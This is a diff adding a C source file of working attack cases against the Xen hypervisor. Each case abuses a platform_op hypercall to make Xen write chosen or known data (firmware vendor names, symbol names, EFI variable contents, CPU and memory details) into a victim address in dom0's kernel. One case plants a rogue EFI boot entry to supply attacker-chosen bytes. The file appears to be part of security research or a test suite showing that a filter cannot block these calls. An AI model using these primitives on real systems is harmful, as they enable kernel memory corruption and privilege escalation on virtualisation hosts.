@@ -1,0 +1,232 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * U-KMEM through platform_op, which dom0's kernel itself uses to speak with the
+ * firmware and to manage CPUs: a filter cannot just refuse it on the way from
+ * the kernel to Xen.
+ */
+#include "kmem.h"
+
+#include <fcntl.h>
+
+#include <xen/platform.h>
+
+/* The part of a platform_op up to and with a field. */
+#define UP_TO(field)                                                           \
+    (offsetof(struct xen_platform_op, u.field) +                               \
+     sizeof(((struct xen_platform_op *)0)->u.field))
+#define HEADER_ONLY offsetof(struct xen_platform_op, u)
+
+static long platform_op(struct xen_platform_op *op)
+{
+    op->interface_version = XENPF_INTERFACE_VERSION;
+    return hypercall1(__HYPERVISOR_platform_op, op);
+}
+
+static long platform_op_in_host_name(struct xen_platform_op op, size_t input)
+{
+    op.interface_version = XENPF_INTERFACE_VERSION;
+    return hypercall1(__HYPERVISOR_platform_op, in_host_name(&op, input));
+}
+
+/* ---- into a buffer ---- */
+
+/* U-KMEM-FWVENDOR: the name of the firmware's vendor. */
+KMEM_ATTACK("U-KMEM-FWVENDOR", "the firmware's vendor into the kernel")
+{
+    struct xen_platform_op op = { .cmd = XENPF_firmware_info };
+
+    op.u.firmware_info.type = XEN_FW_EFI_INFO;
+    op.u.firmware_info.index = XEN_FW_EFI_VENDOR;
+    op.u.firmware_info.u.efi_info.vendor.name.p = AT_VICTIM;
+    op.u.firmware_info.u.efi_info.vendor.bufsz = 40;
+    return platform_op(&op);
+}
+
+/* U-KMEM-SYMBOL: the name of any of Xen's functions. */
+KMEM_ATTACK("U-KMEM-SYMBOL", "the name of a function of Xen into the kernel")
+{
+    struct xen_platform_op op = { .cmd = XENPF_get_symbol };
+
+    op.u.symdata.name.p = AT_VICTIM;
+    op.u.symdata.namelen = 40;
+    return platform_op(&op);
+}
+
+/*
+ * U-KMEM-RESOURCE: 24 bytes: the value of a machine register, or an error in
+ * place of the number of the operation.
+ */
+KMEM_ATTACK("U-KMEM-RESOURCE", "the answer to resource_op into the kernel")
+{
+    static const uint64_t not_allowed = 0x10000;
+    const struct xenpf_resource_entry read = {
+        .u.cmd = XEN_RESOURCE_OP_MSR_READ, .idx = not_allowed
+    };
+    struct xen_platform_op op = { .cmd = XENPF_resource_op };
+
+    op.u.resource_op.entries.p = (void *)in_host_name(&read, sizeof(read));
+    op.u.resource_op.nr_entries = 1;
+    return platform_op(&op);
+}
+
+/* A boot entry of our own, which no boot order names. */
+#define BOOT_ENTRY u"Boot0ABD"
+static const char boot_entry[] =
+    "/sys/firmware/efi/efivars/Boot0ABD-8be4df61-93ca-11d2-aa0d-00e098032b8c";
+static const struct xenpf_efi_guid global = {
+    0x8be4df61, 0x93ca, 0x11d2, { 0xaa, 0x0d, 0, 0xe0, 0x98, 3, 0x2b, 0x8c }
+};
+
+/* As the kernel and the firmware want it, but for what its loader gets. */
+struct boot_entry {
+    uint32_t attributes; /* of the variable */
+    uint32_t active;
+    uint16_t path_size, description[2];
+    uint8_t path[4];
+    char for_loader[MARK_SIZE];
+} __attribute__((packed));
+#define CONTENT_SIZE (sizeof(struct boot_entry) - sizeof(uint32_t))
+
+static bool set_boot_entry(const char *bytes)
+{
+    struct boot_entry entry = {
+        .attributes = XEN_EFI_VARIABLE_NON_VOLATILE |
+                      XEN_EFI_VARIABLE_BOOTSERVICE_ACCESS |
+                      XEN_EFI_VARIABLE_RUNTIME_ACCESS,
+        .active = 1,
+        .path_size = sizeof(entry.path),
+        .description = { 'r' },
+        .path = { 0x7f, 0xff, sizeof(entry.path), 0 }, /* its end */
+    };
+    int fd = open(boot_entry, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+    bool done;
+
+    memcpy(entry.for_loader, bytes, sizeof(entry.for_loader));
+    done = fd >= 0 && write(fd, &entry, sizeof(entry)) == sizeof(entry);
+    if ( fd >= 0 )
+        close(fd);
+    return done;
+}
+
+/*
+ * U-KMEM-EFIVAR: chosen bytes: the content of an EFI variable that the attacker
+ * sets.
+ */
+KMEM_ATTACK("U-KMEM-EFIVAR", "a chosen EFI variable into the kernel")
+{
+    static const uint16_t name[] = BOOT_ENTRY;
+    struct xen_platform_op op = { .cmd = XENPF_efi_runtime_call };
+    long result;
+
+    if ( !set_boot_entry(new_mark()) )
+        return cannot_show("this host sets no EFI variables");
+
+    op.u.efi_runtime_call.function = XEN_EFI_get_variable;
+    op.u.efi_runtime_call.u.get_variable.name.p = (void *)name;
+    op.u.efi_runtime_call.u.get_variable.vendor_guid = global;
+    op.u.efi_runtime_call.u.get_variable.size = CONTENT_SIZE;
+    op.u.efi_runtime_call.u.get_variable.data.p = AT_VICTIM;
+    result = platform_op(&op);
+    unlink(boot_entry);
+
+    return result;
+}
+
+/*
+ * U-KMEM-EFINEXT: the name of the EFI variable after the one whose name was
+ * there before; the first, after an empty one.
+ */
+KMEM_ATTACK("U-KMEM-EFINEXT", "the name of an EFI variable into the kernel")
+{
+    static const char empty[HOST_NAME_SIZE];
+    struct xen_platform_op op = { .cmd = XENPF_efi_runtime_call };
+
+    op.u.efi_runtime_call.function = XEN_EFI_get_next_variable_name;
+    op.u.efi_runtime_call.u.get_next_variable_name.name.p =
+        (void *)in_host_name(empty, sizeof(empty));
+    op.u.efi_runtime_call.u.get_next_variable_name.size = sizeof(empty);
+    return platform_op(&op);
+}
+
+/* ---- back into the argument ---- */
+
+/* U-KMEM-EFITIME: 24 bytes, the date and time. */
+KMEM_ATTACK("U-KMEM-EFITIME", "an argument in the kernel: EFI's get_time")
+{
+    struct xen_platform_op op = { .cmd = XENPF_efi_runtime_call };
+
+    op.u.efi_runtime_call.function = XEN_EFI_get_time;
+    return platform_op_in_host_name(op, UP_TO(efi_runtime_call.status));
+}
+
+/* U-KMEM-EFISPACE: 24 bytes, how much room there is for variables. */
+KMEM_ATTACK("U-KMEM-EFISPACE", "an argument in the kernel: EFI's variable info")
+{
+    struct xen_platform_op op = { .cmd = XENPF_efi_runtime_call };
+
+    op.u.efi_runtime_call.function = XEN_EFI_query_variable_info;
+    op.u.efi_runtime_call.u.query_variable_info.attr =
+        XEN_EFI_VARIABLE_NON_VOLATILE | XEN_EFI_VARIABLE_BOOTSERVICE_ACCESS |
+        XEN_EFI_VARIABLE_RUNTIME_ACCESS;
+    return platform_op_in_host_name(
+        op, UP_TO(efi_runtime_call.u.query_variable_info.attr));
+}
+
+/* U-KMEM-FWINFO: 4 bytes, the version of the firmware's interface. */
+KMEM_ATTACK("U-KMEM-FWINFO", "an argument in the kernel: firmware_info")
+{
+    struct xen_platform_op op = { .cmd = XENPF_firmware_info };
+
+    op.u.firmware_info.type = XEN_FW_EFI_INFO;
+    op.u.firmware_info.index = XEN_FW_EFI_VERSION;
+    return platform_op_in_host_name(op, UP_TO(firmware_info.index));
+}
+
+/* U-KMEM-PCPUINFO: 16 bytes about a CPU. */
+KMEM_ATTACK("U-KMEM-PCPUINFO", "an argument in the kernel: get_cpuinfo")
+{
+    struct xen_platform_op op = { .cmd = XENPF_get_cpuinfo };
+
+    return platform_op_in_host_name(op, UP_TO(pcpu_info.xen_cpuid));
+}
+
+/* U-KMEM-CPUVER: 28 bytes, a CPU's maker and model. */
+KMEM_ATTACK("U-KMEM-CPUVER", "an argument in the kernel: get_cpu_version")
+{
+    struct xen_platform_op op = { .cmd = XENPF_get_cpu_version };
+
+    return platform_op_in_host_name(op, UP_TO(pcpu_version.xen_cpuid));
+}
+
+/* U-KMEM-UCODEREV: 12 bytes, the microcode of a CPU. */
+KMEM_ATTACK("U-KMEM-UCODEREV", "an argument in the kernel: get_ucode_revision")
+{
+    struct xen_platform_op op = { .cmd = XENPF_get_ucode_revision };
+
+    return platform_op_in_host_name(op, UP_TO(ucode_revision.cpu));
+}
+
+/* U-KMEM-PARKING: 4 bytes, how many CPUs are parked. */
+KMEM_ATTACK("U-KMEM-PARKING", "an argument in the kernel: core_parking")
+{
+    struct xen_platform_op op = { .cmd = XENPF_core_parking };
+
+    op.u.core_parking.type = XEN_CORE_PARKING_GET;
+    return platform_op_in_host_name(op, UP_TO(core_parking.type));
+}
+
+/* U-KMEM-MEMTYPE: 20 bytes, a range of memory and how it is cached. */
+KMEM_ATTACK("U-KMEM-MEMTYPE", "an argument in the kernel: read_memtype")
+{
+    struct xen_platform_op op = { .cmd = XENPF_read_memtype };
+
+    return platform_op_in_host_name(op, UP_TO(read_memtype.reg));
+}
+
+/* U-KMEM-VGA: some 40 bytes, where the screen is. */
+KMEM_ATTACK("U-KMEM-VGA", "an argument in the kernel: get_dom0_console")
+{
+    struct xen_platform_op op = { .cmd = XENPF_get_dom0_console };
+
+    return platform_op_in_host_name(op, HEADER_ONLY);
+}
